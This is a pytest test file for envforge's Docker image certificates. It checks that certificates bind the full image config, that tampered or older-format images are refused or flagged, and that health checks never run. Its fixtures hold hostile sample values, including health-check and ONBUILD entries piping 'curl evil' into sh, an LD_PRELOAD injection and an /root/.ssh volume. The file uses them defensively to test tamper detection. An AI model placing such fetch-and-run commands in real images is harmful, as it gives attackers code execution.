"""Issue 22 class 1 and 2: a certificate binds the whole image config (but its own label);
format 1 certificates are read and said to be older; shells check the binding before use
and never run an image's health check."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from envforge.backends import docker
from envforge.backends.docker import pipeline
from envforge.backends.docker import push as pub
from envforge.backends.docker import shell as docker_shell
from envforge.backends.docker.containers import container_kwargs
from envforge.container.devices import DeviceFlags
from envforge.container.refs import (
    CERTIFICATE_LABEL,
    ImageInfo,
    bound_config,
    certified_ref,
    config_identity,
)
from envforge.errors import CertificationFailed, PublishRefused
from envforge.publish.certificate import SCHEMA_V1, Certificate, CertificateStore, _digest, issue
from envforge.recipe.model import Recipe
from tests.helpers.fake_engine import FakeEngine, image_attrs
from tests.helpers.old_certificates import image_shape
from tests.helpers.recipes import make_recipe

RECIPE = make_recipe()
CERTIFIED = certified_ref(RECIPE.name, RECIPE.stack_tag)
CANDIDATE = "sha256:" + "c" * 64
LAYERS = ["sha256:" + "a" * 64, "sha256:" + "b" * 64]
CONFIG: dict[str, Any] = {
    "Env": ["PATH=/opt/venv/bin:/usr/bin"],
    "Cmd": ["bash"],
    "Labels": {"io.envforge.recipe": "cpu"},
}

#: What a Dockerfile FROM the certified image can add without touching a layer or the
#: five run-config keys format 1 bound (each made the image run or build differently).
ADDED: dict[str, tuple[str, Any]] = {
    "HEALTHCHECK": ("Healthcheck", {"Test": ["CMD-SHELL", "curl evil | sh"], "Interval": 10**9}),
    "ONBUILD": ("OnBuild", ["RUN curl evil | sh"]),
    "VOLUME": ("Volumes", {"/root/.ssh": {}}),
    "EXPOSE": ("ExposedPorts", {"22/tcp": {}}),
    "STOPSIGNAL": ("StopSignal", "SIGKILL"),
    "SHELL": ("Shell", ["/bin/evil", "-c"]),
}


def _cert(
    config: dict[str, Any] = CONFIG,
    *,
    fmt: int = 3,
    recipe: Recipe = RECIPE,
    recipe_hash: str | None = None,
) -> Certificate:
    cert = issue(
        report={"status": "pass", "level": "full", "steps": [{"name": "a", "status": "pass"}]},
        recipe_name=recipe.name,
        recipe_hash=recipe_hash or recipe.hash,
        stack_tag=recipe.stack_tag,
        layers=LAYERS,
        config=bound_config(config),
        candidate_id=CANDIDATE,
    )
    if fmt == 3:
        return cert
    if fmt == 2:
        return Certificate.from_data(image_shape(cert))
    data = image_shape(cert, SCHEMA_V1)
    data["image"]["config"] = config_identity(config)
    data["digest"] = _digest(data)
    return Certificate.from_data(data)


def _info(config: dict[str, Any], cert: Certificate) -> ImageInfo:
    labels = {**config.get("Labels", {}), CERTIFICATE_LABEL: cert.to_json()}
    return ImageInfo.from_attrs(
        image_attrs("sha256:" + "1" * 64, layers=LAYERS, config=config, labels=labels)
    )


def test_the_certificate_label_and_builder_traces_are_all_it_leaves_out() -> None:
    config = {
        **CONFIG,
        "Labels": {**CONFIG["Labels"], CERTIFICATE_LABEL: "{}"},
        "Image": "sha256:" + "d" * 64,
        "Hostname": "0123abcd",
        "Domainname": "",
        "Volumes": None,
        "OnBuild": [],
        "Tty": False,
    }
    assert bound_config(config) == CONFIG
    assert bound_config({"Labels": {CERTIFICATE_LABEL: "{}"}}) == {}


@pytest.mark.parametrize("instruction", sorted(ADDED))
def test_each_config_addition_breaks_the_binding(instruction: str) -> None:
    key, value = ADDED[instruction]
    cert = _cert()
    assert pub.image_binding(cert, _info(CONFIG, cert)) == []
    changed = {**CONFIG, key: value}
    problems = pub.image_binding(cert, _info(changed, cert))
    assert problems == [f"image config differs from certificate: {key}"]
    with pytest.raises(CertificationFailed, match=key):
        pub.verify_local(_info(changed, cert), "r")


def test_an_added_label_breaks_the_binding_and_the_certificate_label_does_not() -> None:
    cert = _cert()
    relabelled = {**CONFIG, "Labels": {**CONFIG["Labels"], "org.evil": "1"}}
    assert pub.image_binding(cert, _info(relabelled, cert)) == [
        "image config differs from certificate: Labels"
    ]


def test_a_format_1_certificate_is_read_checked_on_what_it_binds_and_said_to_be_older() -> None:
    old = _cert(fmt=1)
    assert old.format == 1
    assert not old.full_binding
    # format 1 never saw a health check: it still matches (that is what "older" says) ...
    with_check = {**CONFIG, "Healthcheck": ADDED["HEALTHCHECK"][1]}
    assert pub.image_binding(old, _info(with_check, old)) == []
    note = pub.older_format(old, "r")
    assert note is not None
    assert "format 1" in note
    assert "HEALTHCHECK" in note
    # ... but what it binds is still checked
    other_env = {**CONFIG, "Env": ["LD_PRELOAD=/evil.so"]}
    assert pub.image_binding(old, _info(other_env, old)) == [
        "image config differs from certificate: Env"
    ]
    assert pub.older_format(_cert(), "r") is None


def test_a_format_2_certificate_loads_binds_and_verifies_as_before() -> None:
    old = _cert(fmt=2)
    assert old.data["schema"] == "envforge.certificate/2"
    assert "binding" not in old.data
    assert old.format == 2
    assert old.full_binding
    assert old.binding == _cert().binding
    assert old.layers == tuple(LAYERS)
    assert pub.image_binding(old, _info(CONFIG, old)) == []
    assert pub.older_format(old, "r") is None
    changed = {**CONFIG, "Env": ["LD_PRELOAD=/evil.so"]}
    assert pub.image_binding(old, _info(changed, old)) == [
        "image config differs from certificate: Env"
    ]
    pub.verify_local(_info(CONFIG, old), "r")


def test_an_unknown_newer_format_says_so() -> None:
    data: dict[str, Any] = json.loads(_cert().to_json())
    data["schema"] = "envforge.certificate/9"
    with pytest.raises(CertificationFailed, match="not known to this envforge") as info:
        Certificate.from_data(data)
    assert info.value.hint == "upgrade envforge"
    for schema in (["envforge.certificate/2"], {"a": 1}, None, 2):
        data["schema"] = schema
        with pytest.raises(CertificationFailed, match="is not an envforge certificate"):
            Certificate.from_data(data)


def _engine(config: dict[str, Any], cert: Certificate) -> FakeEngine:
    engine = FakeEngine()
    labels = {**config.get("Labels", {}), CERTIFICATE_LABEL: cert.to_json()}
    attrs = image_attrs("sha256:" + "1" * 64, layers=LAYERS, config=config, labels=labels)
    engine.images.add(attrs, CERTIFIED)
    return engine


def test_publish_refuses_a_format_1_certificate_and_an_added_health_check(tmp_path: Path) -> None:
    store = CertificateStore(tmp_path / "certs")
    old = _cert(fmt=1)
    store.save(old)
    with pytest.raises(PublishRefused, match="format 1") as info:
        pub.publishable(_engine(CONFIG, old), RECIPE, store)
    assert info.value.hint == f"envforge certify {RECIPE.name}"
    new = _cert()
    store.save(new)
    pub.publishable(_engine(CONFIG, new), RECIPE, store)
    with_check = {**CONFIG, "Healthcheck": ADDED["HEALTHCHECK"][1]}
    with pytest.raises(PublishRefused, match="Healthcheck"):
        pub.publishable(_engine(with_check, new), RECIPE, store)


class _Ran:
    def __init__(self) -> None:
        self.images: list[str] = []

    def __call__(self, client: object, *, image: str, **_kw: object) -> int:
        self.images.append(image)
        return 0


@pytest.fixture
def ran(monkeypatch: pytest.MonkeyPatch) -> _Ran:
    fake = _Ran()
    monkeypatch.setattr(docker_shell, "run_shell", fake)
    return fake


def test_shell_checks_the_certified_tag_before_every_use(ran: _Ran) -> None:
    cert = _cert()
    said: list[str] = []
    options = docker.DockerOptions(say=said.append)
    assert docker.run(RECIPE, ["true"], options, client=_engine(CONFIG, cert)) == 0
    assert ran.images == ["sha256:" + "1" * 64]
    assert said == []
    # a commit re-tagged over the certified tag: other layers, the same label
    tampered = _engine(CONFIG, cert)
    tampered.images.by_ref[CERTIFIED]["RootFS"]["Layers"].append("sha256:" + "e" * 64)
    with pytest.raises(CertificationFailed, match="not the image its certificate certifies") as e:
        docker.run(RECIPE, ["true"], options, client=tampered)
    assert e.value.hint is not None
    assert f"envforge build {RECIPE.name}" in e.value.hint
    with_check = {**CONFIG, "Healthcheck": ADDED["HEALTHCHECK"][1]}
    with pytest.raises(CertificationFailed, match="Healthcheck"):
        docker.run(RECIPE, ["true"], options, client=_engine(with_check, cert))
    assert len(ran.images) == 1  # nothing ran


def test_shell_refuses_a_certified_tag_without_a_certificate(ran: _Ran) -> None:
    engine = FakeEngine()
    engine.images.add(image_attrs("sha256:" + "1" * 64), CERTIFIED)
    with pytest.raises(CertificationFailed, match="carries no certificate"):
        docker.run(RECIPE, [], docker.DockerOptions(), client=engine)
    assert ran.images == []


def test_shell_runs_an_image_asked_for_with_a_warning_and_an_old_one_with_a_note(
    ran: _Ran,
) -> None:
    cert = _cert()
    with_check = {**CONFIG, "Healthcheck": ADDED["HEALTHCHECK"][1]}
    said: list[str] = []
    options = docker.DockerOptions(say=said.append, image=CERTIFIED)
    assert docker.run(RECIPE, [], options, client=_engine(with_check, cert)) == 0
    assert said == [
        f"warning: {CERTIFIED} is not the image its certificate certifies: image config "
        "differs from certificate: Healthcheck; running it as asked"
    ]
    said.clear()
    old = _cert(fmt=1)
    assert (
        docker.run(RECIPE, [], docker.DockerOptions(say=said.append), client=_engine(CONFIG, old))
        == 0
    )
    assert len(said) == 1
    assert said[0].startswith(f"note: {CERTIFIED}: certificate format 1")


def test_shell_refuses_another_recipes_certified_image_over_the_tag(ran: _Ran) -> None:
    """It matches its own certificate, and is still not this recipe's image."""
    other = make_recipe(name="other-recipe", torch="2.5.1")
    engine = _engine(CONFIG, _cert(recipe=other))
    with pytest.raises(CertificationFailed) as e:
        docker.run(RECIPE, ["true"], docker.DockerOptions(), client=engine)
    assert e.value.message == (
        f"{CERTIFIED} is certified for other-recipe {other.stack_tag}, "
        f"not {RECIPE.name} {RECIPE.stack_tag}"
    )
    assert e.value.hint is not None
    assert e.value.hint.startswith(f"envforge build {RECIPE.name}")
    assert ran.images == []
    # a certificate of a failed probe over the tag is refused the same way
    failed = issue(
        report={"status": "fail", "steps": [{"name": "import", "status": "fail"}]},
        recipe_name=RECIPE.name,
        recipe_hash=RECIPE.hash,
        stack_tag=RECIPE.stack_tag,
        layers=LAYERS,
        config=bound_config(CONFIG),
        candidate_id=CANDIDATE,
    )
    with pytest.raises(CertificationFailed, match="records a failed probe: import"):
        docker.run(RECIPE, ["true"], docker.DockerOptions(), client=_engine(CONFIG, failed))
    assert ran.images == []


def test_shell_notes_a_certificate_for_another_version_of_the_recipe(ran: _Ran) -> None:
    said: list[str] = []
    stale = _cert(recipe_hash="sha256:" + "0" * 64)
    options = docker.DockerOptions(say=said.append)
    assert docker.run(RECIPE, ["true"], options, client=_engine(CONFIG, stale)) == 0
    assert ran.images == ["sha256:" + "1" * 64]
    assert len(said) == 1
    assert said[0].startswith(f"note: {CERTIFIED} was certified for another version of recipe")
    assert said[0].endswith(f"; envforge build {RECIPE.name} certifies the current one")


def test_the_quick_probe_before_a_fallback_checks_the_binding_first(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """``shell GPU --fallback cpu`` quick-probes the GPU image first: a tampered tag is a
    reason to fall back, and no probe container runs in it."""
    cert = _cert()
    tampered = _engine({**CONFIG, "Healthcheck": ADDED["HEALTHCHECK"][1]}, cert)
    monkeypatch.setattr(pipeline, "_connect", lambda _options: tampered)
    probed: list[object] = []
    monkeypatch.setattr(pipeline, "run_probe", lambda *a, **_k: probed.append(a))
    problem = docker.check(RECIPE, docker.DockerOptions())
    assert problem is not None
    assert problem.startswith(f"{CERTIFIED} is not the image its certificate certifies: ")
    assert "Healthcheck" in problem
    assert probed == []


def test_certify_by_recipe_says_when_the_tag_is_not_the_certified_image() -> None:
    """``certify RECIPE`` probes what the tag names (that is how an image is certified),
    and says first that it is not the image the tag's certificate certifies."""
    from tests.unit.backends.docker.test_docker_pipeline import FakeProbe

    cert = _cert()
    said: list[str] = []
    engine = _engine({**CONFIG, "Labels": {"org.evil": "1"}}, cert)
    docker.certify(RECIPE, docker.DockerOptions(say=said.append), client=engine, prober=FakeProbe())
    assert said[0] == (
        f"note: {CERTIFIED} is not the image its certificate certifies: image config "
        "differs from certificate: Labels; certifying the image it names now"
    )
    said.clear()
    docker.certify(
        RECIPE,
        docker.DockerOptions(say=said.append),
        client=_engine(CONFIG, cert),
        prober=FakeProbe(),
    )
    assert not any(line.startswith("note:") for line in said)


def test_no_container_of_envforge_runs_a_health_check(tmp_path: Path) -> None:
    argv = docker_shell.shell_argv(
        image="img",
        command=["true"],
        name="n",
        env={},
        flags=DeviceFlags(),
        cwd=tmp_path,
        volumes=[],
        user="1:1",
        tty=False,
    )
    assert "--no-healthcheck" in argv
    assert argv.index("--no-healthcheck") < argv.index("img")
    assert container_kwargs(env={}, flags=DeviceFlags())["healthcheck"] == {"test": ["NONE"]}


def test_verify_says_a_format_1_certificate_is_older_and_trust_refuses_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from envforge.backends.docker import engine as engine_module
    from envforge.cli import main
    from envforge.publish.certificate import sign
    from envforge.publish.signing import generate, load_signing_key

    key_path, pub_path = generate(tmp_path / "keys")
    old = sign(_cert(fmt=1), load_signing_key(key_path))
    monkeypatch.setattr(engine_module, "connect", lambda *_a, **_k: _engine(CONFIG, old))
    assert main(["verify", CERTIFIED, "--no-pull", "--json"]) == 0
    captured = capsys.readouterr()
    assert json.loads(captured.out)["certificate_format"] == 1
    assert json.loads(captured.out)["full_binding"] is False
    assert "certificate format 1" in captured.err
    assert main(["verify", CERTIFIED, "--no-pull", "--trust", str(pub_path)]) == 1
    err = capsys.readouterr().err
    assert "does not vouch for the rest" in err
    new = sign(_cert(), load_signing_key(key_path))
    monkeypatch.setattr(engine_module, "connect", lambda *_a, **_k: _engine(CONFIG, new))
    assert main(["verify", CERTIFIED, "--no-pull", "--trust", str(pub_path)]) == 0
    assert "format 1" not in capsys.readouterr().err


def test_shell_with_a_gate_asks_it_about_the_image_id_before_running(ran: _Ran) -> None:
    """``shell`` with trusted keys: the image's ID goes to the admission check; a refusal
    runs nothing."""
    asked: list[tuple[str, str]] = []

    def admit(digest: str, what: str, files: object) -> None:
        asked.append((digest, what))

    options = docker.DockerOptions(admit=admit)
    assert docker.run(RECIPE, ["true"], options, client=_engine(CONFIG, _cert())) == 0
    assert asked == [("sha256:" + "1" * 64, CERTIFIED)]

    def refuse(digest: str, what: str, files: object) -> None:
        raise CertificationFailed(f"refused {what}")

    with pytest.raises(CertificationFailed, match="refused"):
        docker.run(
            RECIPE, ["true"], docker.DockerOptions(admit=refuse), client=_engine(CONFIG, _cert())
        )
    assert len(ran.images) == 1
